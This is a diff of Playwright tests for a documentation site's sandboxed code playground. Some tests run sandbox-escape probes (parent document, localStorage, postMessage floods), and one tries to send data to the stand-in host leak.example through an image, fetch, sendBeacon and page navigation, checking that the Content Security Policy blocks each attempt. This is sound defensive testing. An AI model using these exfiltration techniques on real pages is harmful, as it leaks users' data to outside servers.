@@ -1,15 +1,27 @@
 import { deflateRawSync } from 'node:zlib';
+import type { Locator } from '@playwright/test';
 import { findViolations } from './axe.ts';
+import { collectViolations } from './conditions.ts';
 import { expect, test, visit } from './fixtures.ts';
 
 const path = '/docs/getting-started/playground';
+
+/** Writes a text in place of what a field holds: what Playwright fills in, React does not notice in Firefox. */
+async function write(field: Locator, text: string): Promise<void> {
+  await expect(field).toBeEditable();
+  await field.evaluate((element: HTMLTextAreaElement, written) => {
+    element.focus();
+    element.select();
+    document.execCommand('insertText', false, written);
+  }, text);
+}
 
 test('what is typed is shown at once, and every example works', async ({ page }) => {
   await visit(page, path);
   const frame = page.frameLocator('.playground-frame');
   await expect(frame.locator('me-root')).toHaveText('Weekend trip');
   const data = page.getByRole('textbox', { name: 'Data' });
-  await data.fill((await data.inputValue()).replace('Weekend trip', 'A week at sea'));
+  await write(data, (await data.inputValue()).replace('Weekend trip', 'A week at sea'));
   await expect(frame.locator('me-root')).toHaveText('A week at sea');
 
   const names = await page.getByLabel('Example').locator('option:not([disabled])').allTextContents();
@@ -23,13 +35,16 @@ test('what is typed is shown at once, and every example works', async ({ page })
 
 test('code that was copied from a project imports what the page names', async ({ page }) => {
   await visit(page, path);
-  await page.getByRole('textbox', { name: 'Code' }).fill(`import MindElixir, { THEME } from 'mind-elixir';
+  await write(
+    page.getByRole('textbox', { name: 'Code' }),
+    `import MindElixir, { THEME } from 'mind-elixir';
 import { ja } from 'mind-elixir/i18n';
 import { mindElixirToPlaintext } from 'mind-elixir/plaintextConverter';
 import 'mind-elixir/style.css';
 const mind = new MindElixir({ el: '#map', direction: MindElixir.DOWN, theme: THEME, contextMenu: { locale: ja } });
 mind.init(data);
-console.log(mindElixirToPlaintext(mind.getData()).split('\\n')[0]);`);
+console.log(mindElixirToPlaintext(mind.getData()).split('\\n')[0]);`,
+  );
   await expect(page.getByRole('log')).toHaveText('- Weekend trip');
   await expect(page.frameLocator('.playground-frame').locator('me-root')).toHaveText('Weekend trip');
 });
@@ -38,7 +53,7 @@ test('the map follows the colour mode, and keeps what was typed', async ({ page 
   await visit(page, path);
   const frame = page.frameLocator('.playground-frame');
   const data = page.getByRole('textbox', { name: 'Data' });
-  await data.fill((await data.inputValue()).replace('Weekend trip', 'Night train'));
+  await write(data, (await data.inputValue()).replace('Weekend trip', 'Night train'));
   await expect(frame.locator('me-root')).toHaveText('Night train');
   const background = () =>
     frame.locator('.map-container').evaluate((element) => getComputedStyle(element).backgroundColor);
@@ -60,20 +75,24 @@ test.describe('in another language', () => {
 test('the frame has no origin, and reaches neither the page nor the network', async ({ page }) => {
   await visit(page, path);
   await expect(page.locator('.playground-frame')).toHaveAttribute('sandbox', 'allow-scripts');
-  await page.getByRole('textbox', { name: 'Code' }).fill(`console.log(self.origin);
+  await write(
+    page.getByRole('textbox', { name: 'Code' }),
+    `console.log(self.origin);
 try { parent.document.title } catch (error) { console.log(error.name); }
-try { localStorage } catch (error) { console.log(error.name); }`);
+try { localStorage } catch (error) { console.log(error.name); }`,
+  );
   await expect(page.getByRole('log')).toHaveText('null\nSecurityError\nSecurityError');
 });
 
 test.describe('mistakes', () => {
-  test.use({ expectedMessages: /nope|Unexpected/ });
+  test.use({ expectedMessages: /nope|Unexpected|expected expression/ });
 
-  test('are shown in their place, and mended by going there', async ({ page }) => {
+  // In Firefox a frame has no process of its own: code without end holds up the page around it, too.
+  test('are shown in their place, and mended by going there', { tag: '@chromium' }, async ({ page }) => {
     await visit(page, path);
     const code = page.getByRole('textbox', { name: 'Code' });
     const failure = page.locator('.playground-failure');
-    await code.fill('const one = 1;\n\nnope();\n');
+    await write(code, 'const one = 1;\n\nnope();\n');
     await expect(failure).toContainText('nope is not defined');
     await failure.getByRole('button', { name: 'Line 3' }).click();
     await expect(code).toBeFocused();
@@ -81,14 +100,14 @@ test.describe('mistakes', () => {
     await expect(failure).toHaveCount(0);
     await expect(page.frameLocator('.playground-frame').locator('me-root')).toBeVisible();
 
-    await code.fill('const one = ;\n');
-    await expect(failure).toContainText('Unexpected');
+    await write(code, 'const one = ;\n');
+    await expect(failure).toContainText(/SyntaxError: (?:Unexpected|expected expression)/);
     await expect(failure.getByRole('button', { name: 'Line 1' })).toBeVisible();
-    await code.fill('while (true);');
+    await write(code, 'while (true);');
     await expect(failure).toContainText('did not come to an end');
 
-    await code.fill('new MindElixir({ el }).init(data);');
-    await page.getByRole('textbox', { name: 'Data' }).fill('{ "nodeData": ');
+    await write(code, 'new MindElixir({ el }).init(data);');
+    await write(page.getByRole('textbox', { name: 'Data' }), '{ "nodeData": ');
     await expect(failure).toContainText('The data cannot be read');
   });
 });
@@ -96,7 +115,7 @@ test.describe('mistakes', () => {
 test('the address holds the work', async ({ page, context }) => {
   await context.grantPermissions(['clipboard-read', 'clipboard-write']);
   await visit(page, path);
-  await page.getByRole('textbox', { name: 'Data' }).fill('- Shared — 共有\n  - Branch\n');
+  await write(page.getByRole('textbox', { name: 'Data' }), '- Shared — 共有\n  - Branch\n');
   await expect(page).toHaveURL(/#play=/);
   await page.getByRole('button', { name: 'Copy address' }).click();
   await expect(page.getByText('Copied')).toBeVisible();
@@ -131,7 +150,7 @@ test.describe('addresses that name no block', () => {
   });
 });
 
-test('code that came with an address waits for Run', async ({ page }) => {
+test('code that came with an address waits for Run', { tag: '@firefox' }, async ({ page }) => {
   const code = "const mark = document.createElement('h1'); mark.textContent = 'It ran'; el.append(mark);";
   const hash = `#play=${deflateRawSync(JSON.stringify({ code, data: '- Foreign\n' })).toString('base64url')}`;
   await page.clock.install();
@@ -156,11 +175,14 @@ test('code that came with an address waits for Run', async ({ page }) => {
 
 test('messages of any kind harm nothing, and code is sent to a frame once', async ({ page }) => {
   await visit(page, path);
-  await page.getByRole('textbox', { name: 'Code' }).fill(`console.log('ran');
+  await write(
+    page.getByRole('textbox', { name: 'Code' }),
+    `console.log('ran');
 const wrong = [null, 5, 'done', [], { type: 'log' }, { type: 'report' }, { type: 'report', lines: 5 },
   { type: 'report', lines: [{}], failure: { message: {} } }, { type: 'report', lines: [], failure: null }, { type: 'ready' }];
 for (const message of wrong) parent.postMessage(message, '*');
-setTimeout(() => console.log('fine', { a: [1] }), 300);`);
+setTimeout(() => console.log('fine', { a: [1] }), 300);`,
+  );
   await expect(page.getByRole('log')).toHaveText('ran\nfine {"a":[1]}');
   await expect(page.locator('.playground-failure')).toHaveCount(0);
 });
@@ -170,39 +192,47 @@ test('code that prints without end prints its last lines, and code that sends wi
 }) => {
   await visit(page, path);
   const code = page.getByRole('textbox', { name: 'Code' });
-  await code.fill('for (let line = 1; line <= 200_000; line++) console.log(line);');
+  await write(code, 'for (let line = 1; line <= 200_000; line++) console.log(line);');
   await expect(page.getByRole('log')).toHaveText(Array.from({ length: 100 }, (_, line) => 199_901 + line).join('\n'));
-  await code.fill(
+  await write(
+    code,
     "for (let line = 0; line < 20_000; line++) parent.postMessage({ type: 'report', lines: ['x'] }, '*');",
   );
   await expect(page.locator('.playground-failure')).toContainText('reported too much at once');
   await expect(page.locator('.playground-frame')).toHaveCount(0);
   expect((await page.getByRole('log').innerText()).split('\n').length).toBeLessThanOrEqual(100);
-  await code.fill("console.log('after')");
+  await write(code, "console.log('after')");
   await expect(page.getByRole('log')).toHaveText('after');
 });
 
 test.describe('what would carry words away', () => {
   test.use({ expectedMessages: /Content Security Policy|ERR_BLOCKED_BY_CSP|violates/ });
 
-  test('is blocked: pictures, requests and addresses of other servers', async ({ page }) => {
+  // Playwright is told of requests that Firefox's policies keep from being sent, too.
+  test('is blocked: pictures, requests and addresses of other servers', { tag: '@chromium' }, async ({ page }) => {
     const asked: string[] = [];
     await page.route('https://leak.example/**', (route) => {
       asked.push(route.request().url());
       return route.fulfill({ body: '' });
     });
+    await page.addInitScript(collectViolations);
     await visit(page, path);
-    await page.getByRole('textbox', { name: 'Code' }).fill(`
+    await write(
+      page.getByRole('textbox', { name: 'Code' }),
+      `
 const picture = new Image();
 picture.onerror = () => console.log('no picture');
 picture.src = 'https://leak.example/picture';
 await fetch('https://leak.example/fetch').catch(() => console.log('no request'));
 console.log(navigator.sendBeacon('https://leak.example/beacon') ? 'queued' : 'no beacon');
-setTimeout(() => location.assign('https://leak.example/page'), 300);`);
+setTimeout(() => location.assign('https://leak.example/page'), 300);`,
+    );
     await expect(page.getByRole('log')).toContainText('no picture');
     await expect(page.getByRole('log')).toContainText('no request');
-    // The browser says in the frame's place that it is not shown.
-    await expect.poll(() => page.frames().filter((frame) => frame.url().startsWith('chrome-error')).length).toBe(1);
+    // The page says which of its frames it does not let go elsewhere.
+    await expect
+      .poll(() => page.evaluate(() => (window as unknown as { violations: string[] }).violations.join()))
+      .toMatch(/^frame-src https:\/\/leak\.example/);
     expect(asked).toEqual([]);
   });
 });
@@ -222,7 +252,7 @@ test('the snippet is a whole file: imports, element, data and code', async ({ pa
 test('the editor indents, and is left by Escape and Tab', async ({ page }) => {
   await visit(page, path);
   const code = page.getByRole('textbox', { name: 'Code' });
-  await code.fill('');
+  await write(code, '');
   await code.focus();
   await page.keyboard.type('if (el) {\nel.id;');
   await page.keyboard.press('Tab');
@@ -232,7 +262,8 @@ test('the editor indents, and is left by Escape and Tab', async ({ page }) => {
   await expect(page.getByRole('textbox', { name: 'Data' })).toBeFocused();
 });
 
-test('the playground is accessible', async ({ page }) => {
+// axe asks the frame, which has no origin, and Firefox says so on the console.
+test('the playground is accessible', { tag: '@chromium' }, async ({ page }) => {
   await visit(page, path);
   await expect(page.frameLocator('.playground-frame').locator('me-root')).toBeVisible();
   expect(await findViolations(page)).toEqual([]);
